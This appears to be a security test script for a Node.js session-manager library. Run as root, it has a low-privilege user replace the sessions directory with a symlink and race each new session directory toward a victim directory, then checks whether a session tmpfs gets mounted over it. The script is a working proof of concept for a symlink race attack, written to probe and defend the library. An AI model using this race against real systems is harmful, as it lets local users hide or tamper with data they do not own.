'use strict';
// Follow-up to root-swapped.js: the local user who owns the sessions root's
// parent swapped the root for a link to their directory, and races every new
// <key> directory in it for a link to a victim directory (swap-race.c).
// `node root-swap-race.js` as root. OPEN when a session tmpfs lands on the victim.
const crypto = require('node:crypto');
const { execFileSync, spawn, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const cordon = require('../../../..');
async function main() {
  const A = 61235;
  const top = fs.mkdtempSync(path.join(os.tmpdir(), 'cordon-r5-race-'));
  fs.chmodSync(top, 0o755);
  const bin = path.join(top, 'swap-race');
  execFileSync('cc', ['-static', '-O2', '-o', bin, path.join(__dirname, 'swap-race.c')]);
  fs.chmodSync(bin, 0o755);
  const parent = path.join(top, 'parent');
  fs.mkdirSync(parent, { mode: 0o755 });
  fs.chownSync(parent, A, A);
  const root = path.join(parent, 'sessions');
  const m = cordon.createSessionManager({ secret: crypto.randomBytes(32), root, authorize: () => true, maxSessionsPerTenant: 1000 });
  const theirs = path.join(parent, 'theirs');
  spawnSync('/bin/sh', ['-c', `mkdir -m 0777 ${theirs} && mv ${root} ${parent}/old && ln -s ${theirs} ${root}`], { uid: A, gid: A });
  const victim = path.join(top, 'victim');
  fs.mkdirSync(victim, { mode: 0o755 });
  fs.writeFileSync(path.join(victim, 'precious'), 'host data');
  const racer = spawn(bin, [theirs, victim], { uid: A, gid: A, stdio: ['ignore', 'ignore', 'pipe'] });
  let swaps = 0;
  racer.stderr.on('data', (d) => { swaps += String(d).split('\n').filter(Boolean).length; });
  const outcomes = {};
  let hit = false;
  for (let i = 0; i < 40 && !hit; i++) {
    const r = await m.acquire({ tenant: 't', conversation: `c${i}` }, { id: 'a' }).then(async (s) => { await s.end(); return 'acquired'; }, (e) => e.code || e.message.slice(0, 40));
    outcomes[r] = (outcomes[r] || 0) + 1;
    hit = fs.readFileSync('/proc/mounts', 'utf8').split('\n').some((l) => l.split(' ')[1] === victim);
  }
  racer.kill('SIGKILL');
  const mounts = fs.readFileSync('/proc/mounts', 'utf8').split('\n').filter((l) => l.includes(top)).map((l) => l.split(' ')[1]);
  console.log('outcomes', JSON.stringify(outcomes), 'swaps', swaps);
  console.log('mounts left:', mounts.length, mounts.includes(victim) ? `OPEN: a session tmpfs is mounted over ${victim} (chosen by uid ${A}); victim/precious hidden: ${!fs.existsSync(path.join(victim, 'precious'))}` : 'victim not mounted over');
  for (const p of mounts.reverse()) spawnSync('umount', [p]);
  const st = fs.statSync(victim);
  console.log(`victim after umount: uid ${st.uid} mode ${(st.mode & 0o7777).toString(8)} (was 0 755), precious ${fs.existsSync(path.join(victim, 'precious'))}`);
  fs.rmSync(top, { recursive: true, force: true });
}
main().catch((e) => { console.error(e); process.exit(1); });
